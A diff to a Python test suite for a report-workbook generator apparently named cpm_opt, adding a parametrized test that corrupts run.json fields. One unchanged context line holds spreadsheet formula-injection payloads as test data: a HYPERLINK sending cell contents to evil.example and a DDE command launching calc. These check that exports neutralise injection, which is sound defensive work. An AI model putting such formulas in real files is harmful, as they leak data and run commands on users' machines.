@@ -9,13 +9,16 @@ import re
 import shutil
 import subprocess
 import zipfile
+from contextlib import suppress
 from typing import NamedTuple
 from xml.etree import ElementTree
 
 import pytest
 from python_calamine import CalamineWorkbook
 
+from cpm_opt.faults import InputError
 from cpm_opt.report.explanation import Explanation, Section
+from cpm_opt.report.page import page
 from cpm_opt.report.terminal import clean
 from cpm_opt.report.workbook import workbook
 from cpm_opt.runs import RunRecord, read_run
@@ -224,11 +227,23 @@ def test_libreoffice_reckons_every_total_as_it_is_written(hostile, tmp_path):
     assert {'=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "*", ">5"} <= texts
 
 
-def test_facts_of_a_damaged_run_are_told(run, tmp_path):
-    copy = tmp_path / run.id
-    shutil.copytree(run.path, copy)
-    facts = json.loads((copy / "run.json").read_text(encoding="utf-8"))
-    del facts["today"]["objective"]
-    (copy / "run.json").write_text(json.dumps(facts), encoding="utf-8")
-    with pytest.raises(Exception, match="the run is damaged"):
-        workbook(read_run(copy))
+WRONG = (
+    "today.objective", "model.objective", "penalties", "portfolio.kinds", "created", "hashes",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("key", WRONG)
+@pytest.mark.parametrize("value", [None, "much", []])
+def test_a_damaged_run_is_told_and_is_no_defect(tmp_path, key, value):
+    run = risky_run(tmp_path, 3)
+    facts = json.loads((run.path / "run.json").read_text(encoding="utf-8"))
+    *above, last = (int(part) if part.isdigit() else part for part in key.split("."))
+    inner = facts
+    for part in above:
+        inner = inner[part]
+    inner[last] = value
+    (run.path / "run.json").write_text(json.dumps(facts), encoding="utf-8")
+    with pytest.raises(InputError, match="the run is damaged"):
+        workbook(read_run(run.path))
+    with suppress(InputError):  # what a page does not need may be wrong
+        page(read_run(run.path))
